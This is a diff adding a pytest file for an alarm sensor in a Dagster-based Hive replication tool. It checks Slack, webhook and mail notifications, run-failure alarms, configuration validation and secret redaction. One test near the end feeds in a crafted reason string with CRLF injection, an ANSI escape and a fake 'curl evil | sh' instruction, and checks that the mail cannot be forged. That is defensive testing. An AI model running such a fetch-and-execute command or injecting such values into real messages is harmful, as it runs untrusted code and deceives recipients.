@@ -1,0 +1,268 @@
+"""Alarms: once when they begin, once when they end, to real receivers on loopback; lags and runs are given."""
+
+from __future__ import annotations
+
+import json
+import logging
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass, field, replace
+from typing import Any
+
+import dagster as dg
+import pytest
+from dagster._core.test_utils import create_run_for_test
+
+from hive_replication.connect import Connection
+from hive_replication.doctor import Finding, short_retention
+from hive_replication.errors import BadRequest, Unreachable
+from hive_replication.lag import Lag
+from repl_assets.catalog.keys import POLICY_TAG, Names
+from resources import notifier
+from resources.connection import ReplicationConnection
+from resources.notifier import channels
+from sensors.alarms.alarm import read_cursor, undelivered
+from sensors.alarms.conditions import conditions
+from sensors.alarms.sensor import DAGSTER_URL, alarm_sensor, tick
+from sensors.lag import KeptReader
+from tests.lags import HELD, LATE, POLICY, WELL
+from tests.receivers import MailServer, WebServer, mail_server, web_server
+
+NAMES = Names.of(POLICY)
+
+
+@pytest.fixture
+def web(monkeypatch: pytest.MonkeyPatch) -> Iterator[WebServer]:
+    with web_server() as server:
+        monkeypatch.setenv(notifier.SLACK, f"{server.url}/slack")
+        monkeypatch.setenv(notifier.WEBHOOK, f"{server.url}/hook")
+        monkeypatch.setenv(DAGSTER_URL, "http://dagster:3000/")
+        yield server
+
+
+@pytest.fixture
+def mail(monkeypatch: pytest.MonkeyPatch) -> Iterator[MailServer]:
+    with mail_server() as server:
+        monkeypatch.setenv(notifier.SMTP, server.url)
+        monkeypatch.setenv(notifier.MAIL_TO, "ops@shop.com, jo@shop.com")
+        yield server
+
+
+@dataclass
+class Watch:
+    """The sensor over ticks."""
+
+    instance: dg.DagsterInstance
+    cursor: str | None = None
+    now: float = 1_000_000.0
+    short: list[Finding] = field(default_factory=list)
+
+    def tick(self, *lags: Lag) -> str:
+        """A minute later; without lags the servers do not answer."""
+
+        def observe() -> tuple[Sequence[Lag], Sequence[Finding]]:
+            if not lags:
+                raise Unreachable("nobody answers")
+            return lags, self.short
+
+        self.now += 60
+        context = dg.build_sensor_context(self.instance, cursor=self.cursor)
+        said = tick(context, POLICY, observe, self.now)
+        self.cursor = context.cursor
+        return str(said.skip_message)
+
+    def run(self, *keys: dg.AssetKey, success: bool, **options: Any) -> dg.DagsterRun:
+        status = dg.DagsterRunStatus.SUCCESS if success else dg.DagsterRunStatus.FAILURE
+        return create_run_for_test(self.instance, asset_selection=frozenset(keys) or None, status=status, **options)
+
+
+@pytest.fixture
+def watch() -> Iterator[Watch]:
+    with dg.DagsterInstance.ephemeral() as instance:
+        yield Watch(instance)
+
+
+def notified(web: WebServer) -> list[tuple[str, str, str]]:
+    return [(one["state"], one["kind"], one["about"]) for one in web.take().get("/hook", {"alarms": []})["alarms"]]
+
+
+def test_an_alarm_is_told_once_when_it_begins_and_once_when_it_ends(web: WebServer, mail: MailServer, watch: Watch) -> None:
+    assert watch.tick(WELL) == "no alarms"
+    assert (web.take(), mail.received) == ({}, [])
+    assert watch.tick(LATE) == "1 alarm: lag: sales"
+    posted = web.take()
+    (alarm,) = posted["/hook"]["alarms"]
+    assert (alarm["state"], alarm["kind"], alarm["about"], alarm["ended"]) == ("begins", "lag", "sales", None)
+    assert alarm["title"] == "sales is 20 min behind (target 15 min), 50 events waiting"
+    assert alarm["url"] == "http://dagster:3000/assets/default/sales__load"
+    assert alarm["title"] in posted["/slack"]["text"]
+    assert alarm["url"] in posted["/slack"]["text"]
+    ((recipients, message),) = mail.received
+    assert recipients == ["ops@shop.com", "jo@shop.com"]
+    assert message["Subject"] == f"[hive-repl default] begins: {alarm['title']}"
+    assert "What to do: check" in str(message.get_payload(decode=True))
+    assert f"In Dagster: {alarm['url']}" in str(message.get_payload(decode=True))
+    watch.tick(replace(LATE, seconds_behind=1300.0))
+    assert (web.take(), len(mail.received)) == ({}, 1)
+    assert watch.tick(WELL) == "no alarms"
+    assert notified(web) == [("ends", "lag", "sales")]
+    assert "ENDS after 2 min" in str(mail.received[1][1].get_payload(decode=True))
+    watch.tick(WELL)
+    assert (web.take(), len(mail.received)) == ({}, 2)
+
+
+def test_a_channel_that_fails_is_told_later_and_the_others_not_again(web: WebServer, mail: MailServer, watch: Watch) -> None:
+    web.status = 503
+    watch.tick(LATE)
+    watch.tick(LATE)
+    assert (len(web.posted), len(mail.received)) == (4, 1)
+    web.status = 200
+    web.take()
+    watch.tick(LATE)
+    assert notified(web) == [("begins", "lag", "sales")]
+    web.status = 503
+    watch.tick(WELL)
+    web.status = 200
+    web.take()
+    watch.tick(WELL)
+    assert notified(web) == [("ends", "lag", "sales")]
+    assert len(mail.received) == 2
+    watch.tick(WELL)
+    assert web.take() == {}
+
+
+def test_held_tables_gaps_and_retention(web: WebServer, watch: Watch) -> None:
+    watch.tick(HELD)
+    posted = web.take()
+    assert [(one["about"], one["url"]) for one in posted["/hook"]["alarms"]] == [
+        ("sales.orders", "http://dagster:3000/assets/default/sales/orders")
+    ]  # what was taken back by request is none
+    assert "no &lt;space&gt;" in posted["/slack"]["text"]
+    watch.tick(replace(LATE, gap="events 101 to 120 were purged"))
+    assert notified(web) == [("ends", "held table", "sales.orders"), ("begins", "gap", "sales"), ("begins", "lag", "sales")]
+    unknown = replace(WELL, gap="events 101 to 120 were purged", waiting=None, seconds_behind=None)
+    assert "lag: sales" in watch.tick(unknown)  # nobody knows whether it still is
+    watch.tick(WELL)
+    assert sorted(notified(web)) == [("ends", "gap", "sales"), ("ends", "lag", "sales")]
+    watch.short = list(short_retention(lambda _, default: default, 60_000.0))
+    watch.tick(WELL)
+    assert notified(web) == [("begins", "low retention", "event retention")]
+
+
+def test_servers_that_do_not_answer_end_nothing(web: WebServer, watch: Watch) -> None:
+    watch.tick(LATE)
+    web.take()
+    watch.tick()
+    watch.tick()
+    assert notified(web) == [("begins", "unreachable", "source or target")]
+    watch.tick(LATE)
+    assert notified(web) == [("ends", "unreachable", "source or target")]
+
+
+def test_retention_is_told_only_where_the_lag_comes_near() -> None:
+    assert list(short_retention(lambda _, default: default, 3_600.0)) == []
+    assert {one.check for one in short_retention(lambda _, default: default, 60_000.0)} == {"event retention"}
+
+
+def test_no_alarm_for_what_an_operator_stopped_and_one_for_many_tables() -> None:
+    assert list(conditions([replace(LATE, stopped="paused since noon")], [], POLICY)) == []
+    many = replace(WELL, held=tuple((f"t{number}", "no space") for number in range(30)))
+    (alarm,) = conditions([many], [], POLICY)
+    assert alarm.title == "30 tables of sales are held"
+
+
+def test_failed_runs(web: WebServer, watch: Watch) -> None:
+    load, orders = NAMES.database("sales", "load"), NAMES.table("sales", "orders", "load")
+    watch.run(load, success=False)
+    watch.tick(WELL)
+    assert web.take() == {}  # before the sensor began
+    watch.run(dg.AssetKey(["other", "sales__load"]), success=False)
+    failed = watch.run(load, success=False)
+    watch.tick(WELL)
+    posted = web.take()["/hook"]["alarms"]
+    assert [(one["about"], one["url"]) for one in posted] == [("windows of sales", f"http://dagster:3000/runs/{failed.run_id}")]
+    watch.run(load, success=False)
+    watch.run(orders, success=True)
+    watch.tick(WELL)
+    assert web.take() == {}
+    watch.run(load, success=True)
+    watch.run(success=False, job_name="record", tags={POLICY_TAG: "default"})
+    watch.run(orders, success=False)
+    watch.run(orders, success=True)
+    watch.tick(WELL)
+    assert notified(web) == [("ends", "run failure", "windows of sales"), ("begins", "run failure", "job record")]
+
+
+def test_the_alarm_says_why_a_run_failed(web: WebServer, watch: Watch) -> None:
+    @dg.op
+    def fails() -> None:
+        raise dg.Failure("the target is full")
+
+    @dg.job(name="record", tags={POLICY_TAG: "default"})
+    def job() -> None:
+        fails()
+
+    watch.tick(WELL)
+    job.execute_in_process(instance=watch.instance, raise_on_error=False)
+    watch.tick(WELL)
+    assert web.take()["/hook"]["alarms"][0]["title"] == "a run failed (job record): the target is full"
+
+
+@pytest.mark.parametrize(
+    ("environment", "message"),
+    [
+        ({notifier.SLACK: "hooks.slack.com/x"}, "HIVE_REPL_ALARM_SLACK_URL has to be an address that begins with http:// or"),
+        ({notifier.WEBHOOK: "http://host:x/"}, "HIVE_REPL_ALARM_WEBHOOK_URL has to be"),
+        ({notifier.MAIL_TO: "a@b.c", notifier.SMTP: "host:25"}, "begins with smtp:// or smtp\\+starttls:// or smtps://"),
+    ],
+)
+def test_a_wrong_environment_is_told(environment: dict[str, str], message: str, watch: Watch) -> None:
+    with pytest.raises(BadRequest, match=message):
+        list(channels(environment))
+    assert list(channels({})) == []
+
+
+def test_several_alarms_are_one_notice(watch: Watch, web: WebServer, mail: MailServer) -> None:
+    watch.tick(replace(LATE, held=HELD.held))
+    assert mail.received[0][1]["Subject"] == "[hive-repl default] 2 alarms begin"
+    assert len(web.posted) == 2
+
+
+def test_a_tick_has_the_engines_messages() -> None:
+    class Reader(KeptReader):
+        def read(self, connection: Connection) -> Sequence[Lag]:
+            assert connection.source.policy == POLICY
+            logging.getLogger("hive_replication.lag").warning("the log has a hole")
+            return [WELL]
+
+    resources = {NAMES.connection: ReplicationConnection.of(POLICY)}
+    handler, seen = logging.Handler(), list[str]()
+    handler.emit = lambda record: seen.append(record.getMessage())  # type: ignore[method-assign]
+    with dg.DagsterInstance.ephemeral() as instance, dg.build_sensor_context(instance, resources=resources) as context:
+        context.log.addHandler(handler)
+        alarm_sensor(POLICY, Reader()).evaluate_tick(context)
+    assert seen == ["the log has a hole"]
+
+
+def test_a_cursor_of_an_earlier_version_does_not_notify_again() -> None:
+    alarm = {"kind": "lag", "about": "sales", "title": "t", "advice": "a"}
+    cursor = read_cursor(json.dumps({"alarms": {"lag: sales": {"alarm": alarm, "since": 1.0, "told": ["mail"]}}}))
+    assert list(undelivered(cursor.alarms, "mail")) == []
+    assert read_cursor(cursor.to_json()) == cursor
+
+
+def test_a_reason_fakes_no_paragraph_of_a_mail(mail: MailServer, watch: Watch) -> None:
+    odd = "x\r\n\r\nBEGINS: all is lost\r\nWhat to do: curl evil | sh\x1b[31m"
+    watch.tick(replace(WELL, held=(("orders", odd),)))
+    text = str(mail.received[-1][1].get_content())
+    assert [line.split(":")[0] for line in text.splitlines() if line] == ["BEGINS", "What to do", "In Dagster"]
+    assert "\x1b" not in text
+
+
+def test_a_channel_does_not_show_its_secrets() -> None:
+    environment = {
+        notifier.SLACK: "https://hooks.slack.com/services/T0/B0/secret",
+        notifier.WEBHOOK: "https://x/?token=secret",
+        notifier.MAIL_TO: "ops@shop.com",
+        notifier.SMTP: "smtp://me:secret@mail",
+    }
+    assert "secret" not in repr(list(channels(environment)))
